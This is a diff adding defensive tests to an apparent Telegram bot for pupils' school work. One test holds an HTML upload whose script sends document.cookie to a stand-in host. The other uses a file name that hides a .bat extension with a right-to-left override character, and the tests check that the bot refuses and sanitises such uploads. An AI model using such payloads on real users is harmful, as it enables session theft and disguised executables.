@@ -204,6 +204,37 @@ async def test_refused_files_get_a_clear_answer_and_nothing_is_kept(
     assert stored_files(settings) == []
 
 
+async def test_a_web_page_is_refused_kindly_and_nothing_is_kept(pupil, settings, session_factory):
+    page = b"<html><body><script>fetch('https://x.example/?' + document.cookie)</script>"
+    await pupil.send_document(page, "evil.html", "text/html")
+    [answer] = await pupil.wait_for_reply()
+    assert "code" in answer["text"] and "Stuur je werk als foto, PDF" in answer["text"]
+    assert await count(session_factory, Evidence) == 0
+    assert await count(session_factory, MediaFile) == 0
+    assert stored_files(settings) == []
+
+
+async def test_a_file_name_that_hides_its_extension_reaches_the_teacher_clean(
+    pupil, telegram, school, settings, session_factory
+):
+    # Shown as "verslagtab.txt": the right-to-left override turns "txt.bat" around.
+    await pupil.send_document(b"Mijn verslag over krachten\n", "verslag\u202etxt.bat", "text/plain")
+    [card] = await pupil.wait_for_reply()
+    assert "je bestand" in card["text"]
+    await tag(pupil, card["message_id"], "Geen doel", "Nee", "🏫 Op school")
+    await tag(pupil, card["message_id"], "✅ Nee, alleen juf/meester")
+    [file] = await _all(session_factory, EvidenceFile)
+    assert file.original_name == "verslagtxt.txt"
+
+    teacher = await join(telegram, school, "T1", "Anouk")
+    await teacher.send_text("/werk")
+    [review] = await teacher.wait_for_reply()
+    await teacher.press("📎 Open", message_id=review["message_id"])
+    [seen] = await teacher.wait_for_reply()
+    assert seen["document"]["file_name"] == "verslagtxt.txt"
+    assert await telegram.download(seen["document"]["file_id"]) == b"Mijn verslag over krachten\n"
+
+
 async def test_a_broken_photo_is_refused(pupil, settings, session_factory):
     jpeg = small_jpeg((400, 300))
     await pupil.send_document(jpeg[: len(jpeg) // 2], "half.jpg", "image/jpeg")
